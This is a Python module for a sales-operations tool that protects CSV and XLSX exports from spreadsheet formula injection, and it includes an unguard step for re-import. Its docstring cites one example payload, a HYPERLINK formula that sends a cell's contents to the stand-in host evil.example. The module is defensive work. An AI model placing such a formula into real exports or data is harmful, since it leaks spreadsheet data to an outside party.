"""Exports that cannot carry formulas (CSV / formula injection, CWE-1236).

Imported text is untrusted: a CRM export can hold a customer named
``=HYPERLINK("http://evil.example/?"&A1,"click")``, which a spreadsheet would run when the
file is opened. Every export writes such text as plain text:

* CSV: a text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets
  a leading apostrophe, as OWASP recommends (spreadsheets show the text, not a formula);
* XLSX: the cell is a string cell (``data_type 's'``), never a formula.

Numbers (int, float, Decimal) stay numbers: only ``str`` values are guarded. The importer
takes the apostrophe off again (:func:`unguard`, and ``GUARDED`` for Arrow columns), so an
export imports back as the original text. To keep that exact, text that already starts with
apostrophes followed by one of those characters gets one apostrophe more, and the importer
removes exactly one.

One module for every export (``salesops export``, the board's panel and records exports,
``salesops metric --format csv``, the import error report); standard library only.
"""

from __future__ import annotations

import re
from typing import Any

#: First characters that make a spreadsheet read a cell as a formula (OWASP).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

#: A guarded text: apostrophes, then a formula start. The importer removes the first apostrophe.
GUARDED = r"^'('*[=+\-@\t\r])"

_NEEDS_GUARD = re.compile(r"'*[=+\-@\t\r]")
_GUARDED = re.compile(GUARDED)


def needs_guard(value: object) -> bool:
    """True for text a spreadsheet would read as a formula (or a guarded text already)."""
    return isinstance(value, str) and _NEEDS_GUARD.match(value) is not None


def csv_cell(value: Any) -> Any:
    """A value for a CSV export: risky text with OWASP's leading apostrophe; others as they are."""
    return "'" + value if needs_guard(value) else value


def csv_row(values: list[Any]) -> list[Any]:
    """:func:`csv_cell` of each value."""
    return [csv_cell(v) for v in values]


def xlsx_cell(sheet: Any, value: Any) -> Any:
    """A value for ``sheet.append``: risky text as a string cell, never a formula.

    openpyxl stores any ``str`` starting with ``=`` as a formula; a cell whose ``data_type``
    is ``'s'`` is written as a string whatever it starts with. A text that already starts with
    an apostrophe gets one more, as in CSV, since the importer removes one.
    """
    if not needs_guard(value):
        return value
    from openpyxl.cell import WriteOnlyCell

    text = "'" + value if value.startswith("'") else value
    cell = WriteOnlyCell(sheet, value=text)
    cell.data_type = "s"
    return cell


def xlsx_row(sheet: Any, values: list[Any]) -> list[Any]:
    """:func:`xlsx_cell` of each value."""
    return [xlsx_cell(sheet, v) for v in values]


def unguard(text: str) -> str:
    """The text an export guarded: one leading apostrophe off before a formula start."""
    return _GUARDED.sub(r"\1", text, count=1)
